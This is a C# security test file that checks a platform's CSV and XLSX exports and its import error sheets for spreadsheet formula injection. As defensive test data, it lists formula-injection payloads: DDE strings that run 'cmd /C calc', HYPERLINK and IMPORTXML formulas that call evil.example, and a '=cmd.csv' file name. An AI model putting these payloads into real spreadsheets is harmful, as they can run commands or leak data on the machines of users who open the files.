using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Xml.Linq;
using Huike.Platform.Transfer.Files;
using Huike.TestKit;
using MiniExcelLibs;

namespace Huike.Security.Tests.Files;

/// <summary>No text of ours becomes a formula in somebody's spreadsheet program: sixty beginnings, every generated table.</summary>
public sealed class FormulaTests(SqliteTarget target) : IClassFixture<SqliteTarget>
{
    private static readonly string[] Calls = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠SUM(1)", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "DDE(\"cmd\";\"/C calc\")"];
    private static readonly string[] Hidden = ["", " ", "\t", "\r", "\n", "\u00A0", "\u3000", "\uFEFF", "\u200B", "\u200D", "\u2060", "\u00AD", "\u0001", "\u115F", "\u2800", "\u0301", "'", "''"];

    public static IReadOnlyList<string> Triggers { get; } = [.. Hidden.SelectMany(h => Calls.Take(h.Length == 0 ? 12 : 3).Select(c => h + c))];

    [Fact]
    public async Task No_written_table_holds_a_formula()
    {
        Assert.True(Triggers.Count >= 60);
        var columns = new[] { new TableColumn("=HEAD()"), new TableColumn("b") };
        using var csv = new MemoryStream();
        await TableWriter.WriteCsvAsync(csv, columns, Rows(), cancellation: TestContext.Current.CancellationToken);
        AssertPlain(csv.ToArray());
        using var xlsx = new MemoryStream();
        await TableWriter.WriteXlsxAsync(xlsx, columns, Rows(), cancellation: TestContext.Current.CancellationToken);
        AssertNoFormula(xlsx.ToArray());
        // A reader that is not ours sees texts, as they were.
        xlsx.Position = 0;
        var read = MiniExcel.Query(xlsx).Cast<IDictionary<string, object?>>().Skip(1).Select(r => r["A"]).ToList();
        Assert.All(read, value => Assert.IsType<string>(value));
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("xlsx")]
    public async Task No_export_and_no_list_of_faulty_rows_holds_a_formula(string format)
    {
        var client = await target.Client();
        foreach (var trigger in Triggers.Where((_, i) => i % 4 == 0))
            await client.PostAsJsonAsync("customers?onDuplicate=allow", new { name = "公式" + trigger, shortName = trigger, remark = trigger, tags = new[] { trigger.Trim() } });
        using var answer = await client.GetAsync($"customers/export?format={format}");
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        Assert.Equal("attachment", answer.Content.Headers.ContentDisposition!.DispositionType);
        Assert.StartsWith("sandbox", string.Join(' ', answer.Headers.GetValues("Content-Security-Policy")), StringComparison.Ordinal);
        var bytes = await answer.Content.ReadAsByteArrayAsync();
        if (format == "csv")
            AssertPlain(bytes);
        else
            AssertNoFormula(bytes);
    }

    [Fact]
    public async Task The_sheet_of_rows_that_an_import_refused_holds_no_formula()
    {
        var client = await target.Client();
        var rows = string.Join("\r\n", Triggers.Where(t => !t.Contains('\n') && !t.Contains('\r') && !t.Contains('\0')).Select(t => $"\"{t.Replace("\"", "\"\"", StringComparison.Ordinal)}\",\"{t.Replace("\"", "\"\"", StringComparison.Ordinal)}\""));
        using var form = new MultipartFormDataContent
        {
            { new StringContent("customers"), "entity" },
            { new ByteArrayContent(Encoding.UTF8.GetBytes("名称,成立日期\r\n" + rows)), "file", "=cmd.csv" },
        };
        using var started = await client.PostAsync("imports", form);
        var id = (await started.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();
        await Eventually.TrueAsync(async () => (await client.GetFromJsonAsync<JsonElement>($"jobs/{id}")).GetProperty("state").GetString() is "done" or "failed", "the import is over");
        using var errors = await client.GetAsync($"jobs/{id}/errors?format=xlsx");
        Assert.Equal(HttpStatusCode.OK, errors.StatusCode);
        Assert.Equal("attachment", errors.Content.Headers.ContentDisposition!.DispositionType);
        AssertNoFormula(await errors.Content.ReadAsByteArrayAsync());
    }

    private static async IAsyncEnumerable<object?[]> Rows()
    {
        foreach (var trigger in Triggers)
        {
            await Task.Yield();
            yield return [trigger, trigger];
        }
    }

    /// <summary>Cells as any reader sees them: a quote opens, a doubled one stands for itself.</summary>
    private static void AssertPlain(byte[] csv)
    {
        var (text, cell, quoted) = (Encoding.UTF8.GetString(csv).TrimStart('\uFEFF'), new StringBuilder(), false);
        var count = 0;
        foreach (var c in text + "\n")
        {
            if (c == '"')
                quoted = !quoted;
            else if (!quoted && c is ',' or '\n')
            {
                var plain = new string([.. cell.ToString().SkipWhile(x => char.IsWhiteSpace(x) || char.IsControl(x) || char.GetUnicodeCategory(x) is System.Globalization.UnicodeCategory.Format or System.Globalization.UnicodeCategory.NonSpacingMark || x is '\u115F' or '\u2800')]);
                // A number may begin with its sign; nothing else may.
                Assert.False(plain.Length > 0 && "=+-@＝＋－＠".Contains(plain[0], StringComparison.Ordinal) && !decimal.TryParse(plain, out _), $"'{cell}' is taken for a formula");
                cell.Clear();
                count++;
            }
            else
                cell.Append(c);
        }
        Assert.True(count > 10);
    }

    private static void AssertNoFormula(byte[] xlsx)
    {
        using var zip = new ZipArchive(new MemoryStream(xlsx));
        foreach (var entry in zip.Entries.Where(e => e.FullName.EndsWith(".xml", StringComparison.Ordinal)))
        {
            using var stream = entry.Open();
            var names = XDocument.Load(stream).Descendants().Select(e => e.Name.LocalName).ToHashSet();
            Assert.DoesNotContain("f", names);
            Assert.DoesNotContain("ddeLink", names);
            Assert.DoesNotContain("externalLink", names);
        }
        Assert.DoesNotContain(zip.Entries, e => e.FullName.Contains("vba", StringComparison.OrdinalIgnoreCase) || e.FullName.Contains("external", StringComparison.OrdinalIgnoreCase));
    }
}
